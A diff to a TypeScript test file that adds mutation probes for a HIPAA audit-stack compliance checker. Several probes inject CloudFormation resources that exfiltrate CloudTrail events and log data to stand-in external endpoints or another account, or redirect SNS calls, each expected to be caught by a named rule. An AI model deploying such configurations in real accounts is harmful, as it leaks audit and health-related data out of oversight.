@@ -4,7 +4,7 @@
  * on with its logging off; the access-audit volume check counting against a threshold and window of its own; the PHI
  * key made multi-Region and replicated; the trail's PHI data-event selector naming another partition.
  */
-import { Json, one, Probe, Templates } from './probe';
+import { idsOf, Json, one, Probe, Templates } from './probe';
 
 const OTHER_ACCOUNT = '999999999999';
 
@@ -193,5 +193,76 @@ export const PROBES: readonly Probe[] = [
         ],
       }),
     caughtBy: /FirehoseDeliversToTemplateBucket\[ProcessingConfiguration::lambda\]/,
+  },
+  // The second round of the same review (after the fixes above).
+  {
+    name: 'U6 CloudTrail API calls sent to an HTTPS endpoint through an API destination named by GetAtt',
+    safeguards: ['U6', 'E1'],
+    mutate: (t) => {
+      const audit = t.audit!.Resources;
+      audit.SyntheticConnection = { Type: 'AWS::Events::Connection', Properties: { AuthorizationType: 'API_KEY' } };
+      audit.SyntheticApi = {
+        Type: 'AWS::Events::ApiDestination',
+        Properties: {
+          ConnectionArn: { 'Fn::GetAtt': ['SyntheticConnection', 'Arn'] },
+          InvocationEndpoint: 'https://collector.synthetic.example.net/ingest',
+          HttpMethod: 'POST',
+        },
+      };
+      audit.SyntheticApiRule = {
+        Type: 'AWS::Events::Rule',
+        Properties: {
+          State: 'ENABLED',
+          EventPattern: { 'detail-type': ['AWS API Call via CloudTrail'], source: ['aws.iam', 'aws.kms'] },
+          Targets: [{ Id: 'api', Arn: { 'Fn::GetAtt': ['SyntheticApi', 'Arn'] } }],
+        },
+      };
+    },
+    caughtBy: /EventTargetsInAccount\[Target::api-destination\]/,
+  },
+  {
+    name: "U6 the trail's log group streamed to another account whose id is hidden in an SSM parameter",
+    safeguards: ['U6', 'E1'],
+    mutate: (t) => {
+      const audit = t.audit!.Resources;
+      const [group] = one(t, 'audit', 'AWS::Logs::LogGroup', (_r, id) => id.startsWith('TrailLogGroup'));
+      audit.SyntheticAccount = { Type: 'AWS::SSM::Parameter', Properties: { Type: 'String', Value: OTHER_ACCOUNT } };
+      audit.SyntheticLaunderedFilter = {
+        Type: 'AWS::Logs::SubscriptionFilter',
+        Properties: {
+          LogGroupName: { Ref: group },
+          FilterPattern: '',
+          DestinationArn: {
+            'Fn::Sub': [
+              'arn:aws:logs:us-east-1:${A}:destination:collector',
+              { A: { 'Fn::GetAtt': ['SyntheticAccount', 'Value'] } },
+            ],
+          },
+        },
+      };
+    },
+    caughtBy: /LogsAndEventsStayInAccount\[DestinationArn::account-unknown\]/,
+  },
+  {
+    name: "D3 the alert formatter's SNS calls sent to another host (AWS_ENDPOINT_URL_SNS)",
+    safeguards: ['D3'],
+    mutate: (t) => {
+      for (const id of idsOf(t, 'alerting', 'AWS::Lambda::Function'))
+        t.alerting!.Resources[id]!.Properties.Environment.Variables.AWS_ENDPOINT_URL_SNS =
+          'https://sns.synthetic.example.net';
+    },
+    caughtBy: /AssemblyDeploysAsChecked\[[A-Za-z0-9]+::code-loading-environment\]/,
+  },
+  {
+    name: 'U5 the access-audit volume check counting a decoy Glue database of the template',
+    safeguards: ['U5', 'D1'],
+    mutate: (t) => {
+      t.audit!.Resources.SyntheticDecoyDatabase = {
+        Type: 'AWS::Glue::Database',
+        Properties: { CatalogId: '222222222222', DatabaseInput: { Name: 'hipaa_prod_access_audit_decoy' } },
+      };
+      volumeCheck(t).GLUE_DATABASE = 'hipaa_prod_access_audit_decoy';
+    },
+    caughtBy: /AccessAuditChannel\[VolumeCheck::database-outside-assembly\]/,
   },
 ];
